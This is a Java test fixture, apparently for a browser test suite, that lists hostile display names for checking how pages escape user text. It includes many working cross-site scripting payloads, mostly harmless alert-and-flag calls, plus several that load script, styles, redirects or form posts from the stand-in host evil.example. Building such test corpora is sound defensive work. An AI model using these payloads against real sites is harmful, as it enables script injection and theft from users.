package dev.yearlight.tests.browser;

import java.util.List;

/** Names that would be more than names, where a page let them: each would call {@code alert} or set a flag. */
final class HostileTexts {

    /** What the scripts of the corpus set on the window. */
    static final String FLAG = "yearlightWasHere";

    private static final String CODE = "alert(1);window." + FLAG + "=1";

    private HostileTexts() {}

    static List<String> all() {
        return List.of(
                "<script>" + CODE + "</script>",
                "<ScRiPt >" + CODE + "</ScRiPt>",
                "</script><script>" + CODE + "</script>",
                "</title></h2><script>" + CODE + "</script>",
                "<script src=data:text/javascript," + CODE + "></script>",
                "<script type=module>import 'https://evil.example/x.js'</script>",
                "<img src=x onerror=\"" + CODE + "\">",
                "<img src=x:alert(1) onerror=eval(src)>",
                "\"><img src=x onerror='" + CODE + "'>",
                "' autofocus onfocus='" + CODE + "' x='",
                "\" onmouseover=\"" + CODE + "\" x=\"",
                "<svg onload=\"" + CODE + "\">",
                "<svg><script>" + CODE + "</script></svg>",
                "<svg><animate onbegin=\"" + CODE + "\" attributeName=x dur=1s></svg>",
                "<math><mtext><mglyph><style><img src=x onerror=\"" + CODE + "\"></style></mglyph></mtext></math>",
                "<body onload=\"" + CODE + "\">",
                "<details open ontoggle=\"" + CODE + "\">",
                "<iframe src=\"javascript:parent." + CODE + "\"></iframe>",
                "<iframe srcdoc=\"<script>parent." + CODE + "</script>\"></iframe>",
                "<object data=\"javascript:" + CODE + "\"></object>",
                "<embed src=\"javascript:" + CODE + "\">",
                "<a href=\"javascript:" + CODE + "\">a song</a>",
                "javascript:" + CODE,
                "data:text/html,<script>" + CODE + "</script>",
                "<meta http-equiv=refresh content=\"0;url=https://evil.example/\">",
                "<base href=\"https://evil.example/\">",
                "<link rel=stylesheet href=\"https://evil.example/x.css\">",
                "<style>*{background:url(https://evil.example/x)}</style>",
                "<form action=\"https://evil.example/\"><button>Play</button></form>",
                "<template><script>" + CODE + "</script></template>",
                "<x-element onclick=\"" + CODE + "\">",
                "${" + CODE + "}",
                "{{constructor.constructor('" + CODE + "')()}}",
                "<%= " + CODE + " %>",
                "#{" + CODE + "}",
                "{#insert}" + CODE + "{/insert}",
                "`;" + CODE + ";`",
                "\\u003cscript\\u003e" + CODE + "\\u003c/script\\u003e",
                "&lt;script&gt;" + CODE + "&lt;/script&gt;",
                "&#60;img src=x onerror=" + CODE + "&#62;",
                "%3Cscript%3E" + CODE + "%3C/script%3E",
                "]]>--><!--<script>" + CODE + "</script>",
                "\u202Egnos a\u202C",
                "\u2067right to left\u2069 \u0627\u0644\u0642\u0645\u0631",
                "\u200Bzero\u200Dwidth\uFEFF",
                "\u2028line\u2029paragraph",
                "Z\u0351\u036B\u0343\u036A\u0302a\u036B\u033D\u034F\u0334\u0319l\u0329\u034E\u031Fgo",
                "\uD83D\uDC68\u200D\uD83D\uDC69\u200D\uD83D\uDC67 \uD83C\uDFF4\u200D\u2620\uFE0F",
                "__proto__",
                "constructor",
                "null",
                "W".repeat(200));
    }
}
